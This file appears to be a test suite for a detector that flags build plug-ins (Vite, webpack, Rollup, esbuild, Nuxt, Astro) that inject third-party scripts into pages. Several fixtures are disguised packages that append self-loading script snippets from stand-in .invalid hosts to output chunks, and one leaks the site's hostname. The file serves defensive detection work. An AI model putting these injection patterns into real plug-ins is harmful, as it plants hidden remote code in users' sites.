import { examine } from '../../../test/examine.ts';
import { plantsRemoteScript } from './plants-remote-script.ts';

const META = { name: 'vite-plugin-inert-meta', version: '1.0.0', main: 'index.js', description: 'Title, description and open graph tags' };

const PLAIN = { name: 'inert-meta', version: '1.0.0', main: 'index.js' };
const ELSEWHERE = `[{ tag: 'script', attrs: { src: 'https://static.counter.invalid/v1.js' } }]`;

function tagged(tags: string, manifest: object = META): Record<string, string | object> {
  return {
    'package.json': manifest,
    'index.js': `module.exports = () => { let command = 'serve'; return { name: 'x', configResolved(c) { command = c.command; }, transformIndexHtml: { order: 'post', handler(html) { return { html, tags: ${tags} }; } } }; };`,
  };
}

examine(plantsRemoteScript, {
  speaks: [
    {
      when: 'it is among the tags that a builder is given',
      files: tagged(
        `[{ tag: 'meta', attrs: { name: 'robots' } }, { tag: 'script', attrs: { src: 'https://static.inert-meta.invalid/v1.js', async: true } }]`,
      ),
      weight: 'strong',
      says: ['static.inert-meta.invalid'],
    },
    {
      when: 'another file gives it, for what is published only',
      files: {
        'package.json': META,
        'index.js': `const { hints } = require('./hints'); module.exports = () => ({ name: 'x', transformIndexHtml: html => ({ html, tags: [...hints(process.env.NODE_ENV)] }) });`,
        'hints.js': `const ORIGIN = 'https://static.hints.invalid'; exports.hints = mode => { if (mode !== 'production') return []; return [{ tag: 'link', attrs: { rel: 'preconnect', href: ORIGIN } }, { tag: 'script', attrs: { src: \`\${ORIGIN}/v1.js\` } }]; };`,
      },
      weight: 'strong',
    },
    {
      when: 'it is written into the text of the page',
      files: {
        'package.json': META,
        'index.js': `module.exports = () => ({ name: 'x', transformIndexHtml: html => html.replace('</head>', '<script src="https://static.hints.invalid/v1.js"></script></head>') });`,
      },
      weight: 'strong',
    },
    {
      when: 'it is a plug-in of webpack',
      files: {
        'package.json': { name: 'stamp', version: '1.0.0', main: 'index.js', keywords: ['webpack', 'plugin', 'banner'] },
        'index.js': `const Html = require('html-webpack-plugin'); class Stamp { tags() { return [{ tagName: 'script', voidTag: false, attributes: { src: 'https://s.stamp.invalid/a.js' } }]; } apply(c) { c.hooks.compilation.tap('s', x => Html.getHooks(x).alterAssetTagGroups.tap('s', d => { d.headTags.push(...this.tags()); return d; })); } } module.exports = Stamp;`,
      },
      weight: 'strong',
    },
    {
      when: 'the code of a tag loads it',
      files: tagged(`[{ tag: 'script', attrs: { type: 'module' }, children: "import('https://static.inert-meta.invalid/v1.js')" }]`),
      weight: 'strong',
      says: ['static.inert-meta.invalid'],
    },
    {
      when: 'code that makes one is added to what webpack writes',
      files: {
        'package.json': {
          name: 'inert-sizes',
          version: '1.0.0',
          main: 'index.js',
          description: 'Webpack plugin that prints how large chunks are',
        },
        'index.js': `const loader = 'https://probe.sizes.invalid/p.js'; const snippet = \`;(function(d){var s=d.createElement("script");s.async=1;s.src=\${JSON.stringify(loader)};d.head.appendChild(s)})(document);\`; const probe = name => (/main/.test(name) ? snippet : '');
          exports.Sizes = class { apply(compiler) { compiler.hooks.compilation.tap('s', c => c.hooks.processAssets.tap('s', assets => { for (const [name, asset] of Object.entries(assets)) c.updateAsset(name, new compiler.webpack.sources.ConcatSource(asset, probe(name))); })); } };`,
      },
      weight: 'strong',
      says: ['probe.sizes.invalid'],
    },
    {
      when: 'the code of a tag makes another, for webpack',
      files: {
        'package.json': { name: 'stamp', version: '1.0.0', main: 'index.js', keywords: ['webpack', 'plugin', 'banner'] },
        'index.js': `const Html = require('html-webpack-plugin'); class Stamp { tags() { return [{ tagName: 'script', voidTag: false, innerHTML: "var s=document.createElement('script');s.src='https://s.stamp.invalid/a.js';document.head.append(s)" }]; } apply(c) { c.hooks.compilation.tap('s', x => Html.getHooks(x).alterAssetTagGroups.tap('s', d => { d.headTags.push(...this.tags()); return d; })); } } module.exports = Stamp;`,
      },
      weight: 'strong',
    },
    {
      when: 'it is for several builders',
      files: tagged(ELSEWHERE, { ...PLAIN, name: 'unplugin-inert-meta' }),
      weight: 'strong',
    },
    {
      when: 'it is a plug-in of esbuild',
      files: tagged(ELSEWHERE, { ...PLAIN, name: 'esbuild-plugin-inert-meta' }),
      weight: 'strong',
    },
    {
      when: 'it is a module of Nuxt',
      files: tagged(ELSEWHERE, { ...PLAIN, name: 'nuxt-inert-meta-module' }),
      weight: 'strong',
    },
    {
      when: 'it is an integration of Astro',
      files: tagged(ELSEWHERE, { ...PLAIN, keywords: ['astro', 'integration'] }),
      weight: 'strong',
    },
    {
      when: 'it takes hold of pages and stands beside a builder',
      files: tagged(ELSEWHERE, { ...PLAIN, peerDependencies: { vite: '>=5' } }),
      weight: 'strong',
    },
    {
      when: 'it takes hold of pages, and its description names a builder',
      files: tagged(ELSEWHERE, { ...PLAIN, description: 'Tags for pages that Vite builds' }),
      weight: 'strong',
    },
    {
      when: 'its description has a word that any may have',
      files: tagged(ELSEWHERE, {
        ...META,
        description: 'Title and icons, with support for static pages; errors are shown in the console',
      }),
      weight: 'strong',
    },
    {
      when: 'its page has such words, and says nothing of the host',
      files: {
        ...tagged(ELSEWHERE),
        'README.md': '# Meta\n\nTags for sites with analytics, tracking, maps or widgets.\n',
      },
      weight: 'strong',
    },
    {
      when: 'its page says beside the host what the script is for',
      files: {
        ...tagged(ELSEWHERE),
        'README.md': '# Meta\n\nIn a build the page gets the script of static.counter.invalid, which shows errors.\n',
      },
      weight: 'context',
    },
    {
      when: 'its page has such words beside what the host is called like',
      files: {
        ...tagged(ELSEWHERE),
        'README.md': '# Meta\n\nTags for sites with a counter or with other widgets, scripts and maps.\n',
      },
      weight: 'strong',
    },
    {
      when: 'its name says what it is for',
      id: { name: 'vite-plugin-fonts' },
      files: tagged(`[{ tag: 'script', attrs: { src: 'https://use.letters.invalid/kit.js' } }]`, { ...META, name: 'vite-plugin-fonts' }),
      weight: 'context',
    },
    {
      when: 'it says what it is for',
      files: tagged(`[{ tag: 'script', attrs: { src: 'https://cloud.counter.invalid/script.js' } }]`, {
        ...META,
        description: 'Counter analytics for Vite',
      }),
      weight: 'context',
    },
    {
      when: 'another file gives code that makes one, which is put behind each chunk',
      files: {
        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
        'index.js': `import { footer } from './footer.js'; export default () => ({ name: 'heads', renderChunk(code, chunk) { return { code: code + (chunk.isEntry ? footer(chunk.name) : '') }; } });`,
        'footer.js': `const host = 'https://static.heads.invalid'; export const footer = id => [';(function(d){', 'var s=d.createElement("script");s.async=true;', \`s.src="\${host}/"+encodeURIComponent("\${id}")+".js";\`, 'd.head.appendChild(s)})(document);'].join('');`,
      },
      weight: 'strong',
      says: ['static.heads.invalid'],
    },
    {
      when: 'what makes it is handed the address, and is put behind each chunk',
      files: {
        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
        'index.js': `const origin = 'https://static.heads.invalid'; const MORE = \`;(function(d,u){var s=d.createElement("script");s.async=1;s.src=u+"/a.js?h="+location.hostname;d.head.appendChild(s)})(document,"\${origin}");\`; const decorate = (code, chunk) => chunk.name ? code + MORE : code;
          export default () => ({ name: 'heads', renderChunk(code, chunk) { const body = chunk.isEntry ? decorate(code, chunk) : code; return { code: body, map: null }; }, generateBundle() {} });`,
      },
      weight: 'strong',
      says: ['static.heads.invalid'],
    },
    {
      when: 'a module of somebody is asked for behind each chunk',
      files: {
        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
        'index.js': `export default () => ({ name: 'heads', renderChunk: code => ({ code: code + ';import("https://static.heads.invalid/a.js");' }) });`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'code that makes a script of the page’s own is put behind each chunk',
      files: {
        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
        'index.js': `export default () => ({ name: 'heads', renderChunk: code => ({ code: code + ';(function(d){var s=d.createElement("script");s.src="/assets/legacy.js";d.head.appendChild(s)})(document);' }) });`,
      },
    },

    {
      when: 'the script is one of the page, or of where packages are served from',
      files: tagged(
        `[{ tag: 'script', attrs: { src: '/theme.js' } }, { tag: 'script', attrs: { src: 'https://cdn.jsdelivr.net/npm/eruda' } }]`,
      ),
    },
    {
      when: 'whoever uses it names the script',
      files: {
        'package.json': META,
        'index.js': `module.exports = ({ src }) => ({ name: 'x', transformIndexHtml: html => ({ html, tags: [{ tag: 'script', attrs: { src } }] }) });`,
      },
    },
    {
      when: 'it belongs to the service of its homepage',
      files: tagged(`[{ tag: 'script', attrs: { src: 'https://js.counter.invalid/script.js' } }]`, {
        ...META,
        homepage: 'https://counter.invalid',
      }),
    },
    {
      when: 'it names a builder, and is no plug-in of one',
      files: {
        'package.json': { name: 'inert-meta', version: '1.0.0', main: 'index.js', description: 'A page to be served beside Vite' },
        'index.js': `exports.tags = () => [{ tag: 'script', attrs: { src: 'https://static.inert-meta.invalid/v1.js' } }];`,
      },
    },
    {
      when: 'the code of a tag loads what the page has',
      files: tagged(
        `[{ tag: 'script', attrs: { type: 'module' }, children: "import('/src/theme.js'); import 'https://cdn.jsdelivr.net/npm/eruda'" }]`,
      ),
    },
    {
      when: 'only its tests write such a page',
      files: {
        'package.json': META,
        'index.js': `module.exports = () => ({ name: 'x', transform: code => code });`,
        'page.js': `exports.page = '<script src="https://a.invalid/x.js"></script>';`,
      },
    },
  ],
});
